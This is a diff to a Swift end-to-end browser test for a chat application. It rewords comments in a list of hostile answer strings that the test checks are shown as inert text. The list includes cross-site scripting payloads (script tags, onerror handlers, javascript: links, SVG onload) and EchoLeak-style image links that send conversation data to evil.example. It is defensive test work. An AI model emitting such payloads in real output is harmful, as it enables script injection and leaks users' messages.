@@ -1,5 +1,5 @@
-// Answers that want to be more than text, by the ways in which other chat systems have been attacked
-// (the advisories are named in SECURITY.md): the page shows them, and nothing runs and nothing is fetched.
+// Answers that attack the page in ways that worked on other chat systems (SECURITY.md names the
+// advisories): the page shows them as text, and nothing runs or is fetched.
 
 import ChatProtocol
 import Postgres
@@ -14,9 +14,9 @@ extension EndToEnd.InABrowser {
         )
     )
     struct HostileAnswerTests {
-        /// Each tries to run `attacked`, or to fetch from a server that is not ours.
+        /// Each tries to run `attacked`, or to fetch from another server.
         private static let attacks = [
-            // Raw HTML, frames and vector images.
+            // Raw HTML, frames and SVG images.
             "<script>window.attacked = 1</script>",
             "<img src=x onerror=\"window.attacked = 2\">",
             "<iframe srcdoc=\"<script>parent.attacked = 3</script>\"></iframe>",
@@ -35,7 +35,7 @@ extension EndToEnd.InABrowser {
             "```mermaid\ngraph TD\nA[<img src=x onerror=window.attacked=12>] --> B\n```",
             "| a | <img src=x onerror=window.attacked=13> |\n|---|---|\n| <svg/onload=attacked=13> | b |",
             "$$\\href{javascript:window.attacked=14}{x}$$",
-            // Links that are programs.
+            // Links with scripts.
             "[x](javascript:window.attacked=15)",
             "[x](JaVaScRiPt&#58;window.attacked=16)",
             "[x](\u{1}javascript:window.attacked=17)",
@@ -43,7 +43,7 @@ extension EndToEnd.InABrowser {
             "[x](vbscript:attacked=19) <javascript:window.attacked=19>",
             "[x]: javascript:window.attacked=20\n\n[x]",
             "[x](//evil.example/ \"onmouseover=attacked=21\")",
-            // Images that carry off what was said (EchoLeak, CVE-2025-32711).
+            // Images that exfiltrate messages (EchoLeak, CVE-2025-32711).
             "![x](https://evil.example/leak?what=was-said)",
             "![x](//evil.example/leak)",
             "[![x](https://evil.example/a.png)](https://evil.example/b)",
@@ -51,7 +51,7 @@ extension EndToEnd.InABrowser {
             "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
         ]
 
-        @Test("nothing in an answer runs, is fetched, or leads anywhere but where it says")
+        @Test("nothing in an answer runs or is fetched, and links lead where they say")
         func attacks() throws {
             let server = try StoaServer()
             try server.addUser("ann")
@@ -60,7 +60,7 @@ extension EndToEnd.InABrowser {
             var mirror = try peer.watch(conversation)
             let database = try server.database()
             for attack in Self.attacks {
-                // No model can be told to say this, so its answer is exchanged for it.
+                // No model can be made to say this, so its answer is replaced.
                 let answer = try peer.say(attack, in: conversation).answer.id
                 try peer.follow(&mirror, until: answer)
                 let rows = try database.query(
@@ -76,7 +76,7 @@ extension EndToEnd.InABrowser {
             for selector in ["#messages > li:first-child", "#messages > li:last-child"] {
                 try browser.script("document.querySelector(\(quoted(selector))).scrollIntoView()")
             }
-            // What would be fetched, or run after a failed fetch, has begun before this comes back.
+            // A fetch, or a script after a failed fetch, would have started before this returns.
             try browser.script(
                 """
                 return fetch(location.href).then(() => new Promise((done) =>
